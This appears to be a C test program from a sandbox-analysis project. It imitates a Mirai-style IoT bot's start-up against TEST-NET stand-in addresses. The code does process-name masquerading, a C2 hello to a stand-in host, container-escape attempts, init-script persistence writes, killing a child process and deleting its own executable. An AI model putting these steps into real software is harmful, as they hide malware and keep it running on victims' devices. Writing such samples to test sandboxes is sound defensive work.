/*
 * iot_bot.c - the start-up of a typical IoT bot, in one fixed order, for comparing sandbox reports across CPUs.
 *
 * TEST PROGRAM WRITTEN BY THE KANSOKU TEAM; it contains no real bot code and only uses TEST-NET addresses.
 *
 * Imitated behaviour (published Mirai source, bot/main.c, bot/resolv.c, bot/killer.c; Antonakakis et al.,
 * USENIX Security 2017, section 3), the scenario of kansoku issue 16:
 *   1. renames itself with prctl(PR_SET_NAME) to the kernel-thread name "kworker/0:1" (ATT&CK T1036.005);
 *   2. forks a helper child that only waits, and starts a thread that only waits a little;
 *   3. resolves its C2 name cnc.example.test with its own DNS query to the hard-coded resolver 192.0.2.53;
 *   4. connects to the answer (fallback 198.51.100.66) on port 23 and says hello: 00 00 00 01, id length, id;
 *   5. tries a service of the host over loopback: connect to 127.0.0.1:23 (an escape attempt, T1611), then
 *      container escapes the jail refuses: unshare(CLONE_NEWNS), mount of a tmpfs on /mnt, chroot("/mnt");
 *   6. persistence: writes /etc/init.d/S99kworker (read-only in the jail) and drops /var/run/.kworker.sh;
 *   7. SIGKILLs its helper child (T1489);
 *   8. deletes its own executable with unlink(argv[0]) (T1070.004): a relative path when run as "bot".
 * Every step prints one line; the program exits 0 after them. Usage: iot_bot (no arguments).
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "sample_net.h"

static const uint32_t kResolver = 0xC0000235u;   /* 192.0.2.53 */
static const uint32_t kFallbackC2 = 0xC6336442u; /* 198.51.100.66 */
static const uint32_t kLoopback = 0x7F000001u;   /* 127.0.0.1 */

static void write_file(const char* path, const char* content, mode_t mode) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);
    if (fd < 0) {
        sample_log("persistence: %s failed (%s)", path, strerror(errno));
        return;
    }
    ssize_t n = write(fd, content, strlen(content));
    close(fd);
    sample_log("persistence: wrote %zd bytes to %s", n, path);
}

static void* waiter(void* arg) {
    (void)arg;
    sample_sleep_ms(100);
    return NULL;
}

int main(int argc, char** argv) {
    (void)argc;
    sample_init("iot_bot");
    sample_rng_seed();
    char text[16];

    if (prctl(PR_SET_NAME, "kworker/0:1", 0, 0, 0) == 0)
        sample_log("renamed to kworker/0:1");

    pid_t helper = fork();
    if (helper == 0) {
        sample_sleep_ms(20000);
        _exit(0);
    }
    sample_log("forked helper %ld", (long)helper);
    pthread_t thread;
    int thread_started = pthread_create(&thread, NULL, waiter, NULL) == 0;

    uint32_t c2 = sample_resolve(kResolver, "cnc.example.test");
    if (c2 == 0)
        c2 = kFallbackC2;
    int fd = sample_connect(c2, 23, 2000);
    if (fd >= 0) {
        static const uint8_t kHello[] = {0x00, 0x00, 0x00, 0x01, 11,  'k', 'a', 'n',
                                         's',  'o',  'k',  'u',  '-', 'b', 'o', 't'};
        ssize_t sent = send(fd, kHello, sizeof kHello, MSG_NOSIGNAL);
        sample_log("c2: hello sent to %s:23 (%zd bytes)", sample_ip_text(c2, text, sizeof text), sent);
        close(fd);
    } else {
        sample_log("c2: connect %s:23 failed (%s)", sample_ip_text(c2, text, sizeof text), strerror(errno));
    }

    /* A plain blocking connect, so its result (refused, in the jail) is the syscall's own. */
    fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in host = {0};
    host.sin_family = AF_INET;
    host.sin_port = htons(23);
    host.sin_addr.s_addr = htonl(kLoopback);
    int rc = fd < 0 ? -1 : connect(fd, (struct sockaddr*)&host, sizeof host);
    sample_log("loopback: connect 127.0.0.1:23 %s", rc == 0 ? "connected" : strerror(errno));
    if (fd >= 0)
        close(fd);

    sample_log("unshare(CLONE_NEWNS): %s", unshare(CLONE_NEWNS) == 0 ? "ok" : strerror(errno));
    sample_log("mount tmpfs /mnt: %s", mount("none", "/mnt", "tmpfs", 0, NULL) == 0 ? "ok" : strerror(errno));
    sample_log("chroot /mnt: %s", chroot("/mnt") == 0 ? "ok" : strerror(errno));

    write_file("/etc/init.d/S99kworker", "#!/bin/sh\n/tmp/bot &\n", 0755);
    write_file("/var/run/.kworker.sh", "#!/bin/sh\nwhile true; do /tmp/bot; sleep 60; done\n", 0755);

    if (helper > 0) {
        kill(helper, SIGKILL);
        waitpid(helper, NULL, 0);
        sample_log("killed helper %ld", (long)helper);
    }

    if (thread_started)
        pthread_join(thread, NULL);
    if (unlink(argv[0]) == 0)
        sample_log("deleted %s", argv[0]);
    else
        sample_log("delete %s failed (%s)", argv[0], strerror(errno));
    return 0;
}
